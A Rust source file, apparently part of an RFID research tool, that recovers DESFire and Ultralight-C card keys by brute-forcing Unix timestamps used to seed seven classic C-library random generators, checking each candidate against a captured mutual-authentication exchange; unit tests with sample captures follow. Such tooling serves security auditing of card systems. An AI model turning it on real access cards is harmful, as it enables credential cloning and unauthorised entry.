/*! Brute force of timestamp-seeded DES/3DES/AES keys.

Some card personalization tools derive their DESFire and
Ultralight-C keys by seeding a stock C-library random generator with
the Unix timestamp of personalization and reading out key bytes.
That reduces the keyspace to "seconds since the card could have been
produced", which is walked here: for every candidate second, expand
the seed through the selected generator, decrypt the captured mutual
authentication and test the rotation relation that holds exactly
when the key is right.

The seven generators reproduce their originals byte for byte,
including the quirky output mappings (Borland's bits 16..23, the
POSIX `rand_r` three-round composite, and so on).
 */
use std::sync::Mutex;
use std::sync::atomic::{AtomicU32, Ordering};

use aes::Aes128;
use cipher::generic_array::GenericArray;
use cipher::{BlockDecrypt, KeyInit};
use des::{Des, TdesEde2, TdesEde3};
use log::info;

/// Authentication cipher of the captured exchange.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Algo {
    /// Single DES, 8-byte key and challenge.
    Des,
    /// Two-key triple DES, 16-byte key, 8-byte challenge.
    Tdea2,
    /// Three-key triple DES, 24-byte key, 16-byte challenge.
    Tdea3,
    /// AES-128, 16-byte key and challenge.
    Aes,
}

impl Algo {
    /// Derived key length in bytes.
    pub fn key_len(self) -> usize {
        match self {
            Algo::Des => 8,
            Algo::Tdea2 => 16,
            Algo::Tdea3 => 24,
            Algo::Aes => 16,
        }
    }

    /// Tag challenge length in bytes (the reader response is twice
    /// this).
    pub fn challenge_len(self) -> usize {
        match self {
            Algo::Des | Algo::Tdea2 => 8,
            Algo::Tdea3 | Algo::Aes => 16,
        }
    }

    /// Parse the command-line spelling.
    pub fn from_arg(s: &str) -> Option<Self> {
        match s.to_ascii_lowercase().as_str() {
            "des" => Some(Algo::Des),
            "2tdea" => Some(Algo::Tdea2),
            "3tdea" => Some(Algo::Tdea3),
            "aes" => Some(Algo::Aes),
            _ => None,
        }
    }
}

/// The C-library random generator used for key derivation.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Lcg {
    /// Borland C++ `rand()`.
    Borland,
    /// Numerical Recipes `ranqd1`.
    NumRec,
    /// glibc `random()` in its linear mode.
    GlibC,
    /// ANSI C reference `rand()`.
    AnsiC,
    /// Turbo Pascal `Random`.
    TurboPascal,
    /// POSIX `rand_r` extended to 32 bits.
    PosixRandR,
    /// Microsoft Visual/Quick C/C++ `rand()`.
    MsRand,
}

impl Lcg {
    /// All generators, in command-line index order.
    pub const ALL: [Lcg; 7] = [
        Lcg::Borland,
        Lcg::NumRec,
        Lcg::GlibC,
        Lcg::AnsiC,
        Lcg::TurboPascal,
        Lcg::PosixRandR,
        Lcg::MsRand,
    ];

    /// Display name.
    pub fn name(self) -> &'static str {
        match self {
            Lcg::Borland => "Borland",
            Lcg::NumRec => "Recipies",
            Lcg::GlibC => "GlibC",
            Lcg::AnsiC => "AnsiC",
            Lcg::TurboPascal => "Turbo Pascal",
            Lcg::PosixRandR => "posix rand_r",
            Lcg::MsRand => "MS Visual/Quick C/C++",
        }
    }

    /// Expand a 32-bit seed into `len` key bytes.
    ///
    /// Each variant reproduces its original's state update *and*
    /// state-to-byte mapping exactly; several of them reduce modulo
    /// `UINT_MAX` (not 2^32), which is preserved.
    pub fn expand(self, seed: u32, len: usize) -> Vec<u8> {
        let mut key = Vec::with_capacity(len);
        match self {
            Lcg::Borland => {
                let mut l = seed.wrapping_mul(22695477).wrapping_add(1) % u32::MAX;
                for _ in 0..len {
                    l = l.wrapping_mul(22695477).wrapping_add(1) % u32::MAX;
                    key.push((((l >> 16) & 0x7fff) % 0xff) as u8);
                }
            }
            Lcg::NumRec => {
                let mut l = seed;
                for _ in 0..len {
                    l = l.wrapping_mul(1664525).wrapping_add(1013904223) % u32::MAX;
                    key.push((l % 0xff) as u8);
                }
            }
            Lcg::GlibC => {
                let mut l = seed;
                for _ in 0..len {
                    l = l.wrapping_mul(1103515245).wrapping_add(12345) & 0x7fffffff;
                    key.push(l as u8);
                }
            }
            Lcg::AnsiC => {
                let mut l = seed;
                for _ in 0..len {
                    l = l.wrapping_mul(1103515245).wrapping_add(12345) & 0x7fffffff;
                    key.push(((l >> 16) & 0x7fff) as u8);
                }
            }
            Lcg::TurboPascal => {
                let mut l = seed;
                for _ in 0..len {
                    l = l.wrapping_mul(134775813).wrapping_add(1) % u32::MAX;
                    key.push((l % 0xff) as u8);
                }
            }
            Lcg::PosixRandR => {
                let mut l = seed;
                for _ in 0..len {
                    l = l.wrapping_mul(1103515245).wrapping_add(12345);
                    let mut r = i32::from((l >> 16) as u16 % 2048);
                    l = l.wrapping_mul(1103515245).wrapping_add(12345);
                    r = (r << 10) ^ i32::from((l >> 16) as u16 % 1024);
                    l = l.wrapping_mul(1103515245).wrapping_add(12345);
                    r = (r << 10) ^ i32::from((l >> 16) as u16 % 1024);
                    key.push((r % 0xff) as u8);
                }
            }
            Lcg::MsRand => {
                let mut l = seed;
                for _ in 0..len {
                    l = l.wrapping_mul(214013).wrapping_add(2531011);
                    key.push(((l >> 16) & 0x7fff) as u8);
                }
            }
        }
        key
    }
}

/// A timestamp search job.
#[derive(Clone, Copy, Debug)]
pub struct TimestampJob {
    /// Cipher of the captured authentication.
    pub algo: Algo,
    /// Generator to derive candidate keys with.
    pub lcg: Lcg,
    /// First candidate timestamp, inclusive.
    pub start: u64,
    /// Last candidate timestamp, exclusive (typically "now").
    pub stop: u64,
    /// Tag challenge; only the first [`Algo::challenge_len`] bytes
    /// are used.
    pub tag: [u8; 16],
    /// Reader response and challenge; twice the challenge length.
    pub rdr: [u8; 32],
}

/// A found personalization timestamp and the key it derives.
#[derive(Clone, Debug)]
pub struct FoundKey {
    /// The Unix timestamp that seeds the key.
    pub timestamp: u64,
    /// The derived key.
    pub key: Vec<u8>,
}

/// CBC-decrypt `data` in place.
fn cbc_decrypt<C: BlockDecrypt>(cipher: &C, iv: &[u8], data: &mut [u8]) {
    let bs = C::block_size();
    let mut prev = iv[..bs].to_vec();
    for block in data.chunks_exact_mut(bs) {
        let ct = block.to_vec();
        cipher.decrypt_block(GenericArray::from_mut_slice(block));
        for (b, p) in block.iter_mut().zip(&prev) {
            *b ^= p;
        }
        prev = ct;
    }
}

/// Decrypt the exchange under `key` and test the mutual-auth
/// rotation relation.
fn key_matches(job: &TimestampJob, key: &[u8]) -> bool {
    let n = job.algo.challenge_len();
    let mut tag = job.tag[..n].to_vec();
    let mut rdr = job.rdr[..2 * n].to_vec();

    // The tag challenge comes first on the wire, so its ciphertext
    // is the IV of the reader blocks.
    fn decrypt_both<C: BlockDecrypt>(c: &C, tag: &mut [u8], rdr: &mut [u8], tag_ct: &[u8]) {
        let bs = C::block_size();
        let zero_iv = [0u8; 16];
        cbc_decrypt(c, &zero_iv[..bs], tag);
        cbc_decrypt(c, &tag_ct[..bs], rdr);
    }

    let tag_ct = tag.clone();
    match job.algo {
        Algo::Des => {
            let Ok(c) = Des::new_from_slice(key) else {
                return false;
            };
            decrypt_both(&c, &mut tag, &mut rdr, &tag_ct);
        }
        Algo::Tdea2 => {
            let Ok(c) = TdesEde2::new_from_slice(key) else {
                return false;
            };
            decrypt_both(&c, &mut tag, &mut rdr, &tag_ct);
        }
        Algo::Tdea3 => {
            let Ok(c) = TdesEde3::new_from_slice(key) else {
                return false;
            };
            decrypt_both(&c, &mut tag, &mut rdr, &tag_ct);
        }
        Algo::Aes => {
            let Ok(c) = Aes128::new_from_slice(key) else {
                return false;
            };
            decrypt_both(&c, &mut tag, &mut rdr, &tag_ct);
        }
    }

    // rdr decrypts to RndA || rol(RndB): the tag challenge rotated
    // left one byte must sit in the second half.
    if tag[0] != rdr[2 * n - 1] {
        return false;
    }
    tag[1..n] == rdr[n..2 * n - 1]
}

fn scan(
    job: &TimestampJob,
    offset: u64,
    stride: u64,
    found: &AtomicU32,
    result: &Mutex<Option<FoundKey>>,
) {
    let mut t = job.start + offset;
    while t < job.stop {
        if found.load(Ordering::Acquire) != 0 {
            return;
        }
        let key = job.lcg.expand(t as u32, job.algo.key_len());
        if key_matches(job, &key) {
            found.fetch_add(1, Ordering::AcqRel);
            info!("timestamp {t} derives a matching key");
            let mut guard = result.lock().expect("result lock");
            guard.get_or_insert(FoundKey { timestamp: t, key });
            return;
        }
        t += stride;
    }
}

/// Walk `[start, stop)` striped across `threads` OS threads.
pub fn run(job: &TimestampJob, threads: usize) -> Option<FoundKey> {
    let threads = threads.max(2);
    let found = AtomicU32::new(0);
    let result = Mutex::new(None);

    std::thread::scope(|s| {
        for i in 0..threads {
            let (found, result) = (&found, &result);
            s.spawn(move || scan(job, i as u64, threads as u64, found, result));
        }
    });

    result.into_inner().expect("result lock")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn job(algo: Algo, lcg: Lcg, start: u64, tag_hex: &str, rdr_hex: &str) -> TimestampJob {
        let mut tag = [0u8; 16];
        let mut rdr = [0u8; 32];
        let t = hex::decode(tag_hex).unwrap();
        let r = hex::decode(rdr_hex).unwrap();
        tag[..t.len()].copy_from_slice(&t);
        rdr[..r.len()].copy_from_slice(&r);
        TimestampJob {
            algo,
            lcg,
            start,
            stop: start + 300,
            tag,
            rdr,
        }
    }

    #[test]
    fn lcg_expansions() {
        // Byte-exact expansions of every generator.
        let cases: [(Lcg, &str); 7] = [
            (Lcg::Borland, "6d5a8599c919802d"),
            (Lcg::NumRec, "4a49556b59bd74fb"),
            (Lcg::GlibC, "cc152a1bb891f6f7"),
            (Lcg::AnsiC, "266ec78df3307e4f"),
            (Lcg::TurboPascal, "abb247b44b25387b"),
            (Lcg::PosixRandR, "0755aeb7164774f5"),
            (Lcg::MsRand, "49f90248431ab245"),
        ];
        for (lcg, expect) in cases {
            assert_eq!(
                hex::encode(lcg.expand(1599999999, 8)),
                expect,
                "{}",
                lcg.name()
            );
        }
        assert_eq!(
            hex::encode(Lcg::MsRand.expand(12345, 16)),
            "a0dcc36dc46d5525906c6fd0dbe43efc"
        );
    }

    #[test]
    fn finds_des_timestamp() {
        let j = job(
            Algo::Des,
            Lcg::Borland,
            1600000000,
            "3f3ceccc5c242cc7",
            "b40bf3a664dca57a51a2319e531fcae8",
        );
        let hit = run(&j, 4).expect("timestamp in range");
        assert_eq!(hit.timestamp, 1600000123);
        assert_eq!(hex::encode(hit.key), "0f427c67192c6d54");
    }

    #[test]
    fn finds_2tdea_timestamp() {
        let j = job(
            Algo::Tdea2,
            Lcg::Borland,
            1600000000,
            "3d2f0c594afe891f",
            "2ddf7f1c2beddf578b8d465522a47cb6",
        );
        let hit = run(&j, 4).expect("timestamp in range");
        assert_eq!(hit.timestamp, 1600000123);
    }

    #[test]
    fn finds_3tdea_timestamp() {
        let j = job(
            Algo::Tdea3,
            Lcg::Borland,
            1600000000,
            "c2c3c5259c83691ec6c559c87fb93f70",
            "55026359c3fb999cde8ac285c64e5f4af7ff550175cac9439d4d1e44558fbbc2",
        );
        let hit = run(&j, 4).expect("timestamp in range");
        assert_eq!(hit.timestamp, 1600000123);
    }

    #[test]
    fn finds_aes_timestamp() {
        let j = job(
            Algo::Aes,
            Lcg::Borland,
            1600000000,
            "1cab6515586024bc38f032902a6f4616",
            "ae005136c0979cc57ceef259ca6392f8e3db89664d74afc88083cff2a2b9b320",
        );
        let hit = run(&j, 4).expect("timestamp in range");
        assert_eq!(hit.timestamp, 1600000123);
        assert_eq!(hex::encode(hit.key), "0f427c67192c6d54aa87785e7ea1090c");
    }

    #[test]
    fn finds_glibc_aes_timestamp() {
        let j = job(
            Algo::Aes,
            Lcg::GlibC,
            1599999900,
            "002b1be9ce2fad1eea24e6cd3c638813",
            "53260107e64f350e740a6a870ae37f072ce1e1efa96360ed4882581c1372a801",
        );
        let hit = run(&j, 4).expect("timestamp in range");
        assert_eq!(hit.timestamp, 1600000007);
        assert_eq!(hex::encode(hit.key), "345dd2a3a0591effcc152a1bb891f6f7");
    }

    #[test]
    fn exhausted_range() {
        let j = TimestampJob {
            algo: Algo::Des,
            lcg: Lcg::Borland,
            start: 1000,
            stop: 1100,
            tag: [0; 16],
            rdr: [0; 32],
        };
        assert!(run(&j, 4).is_none());
    }
}
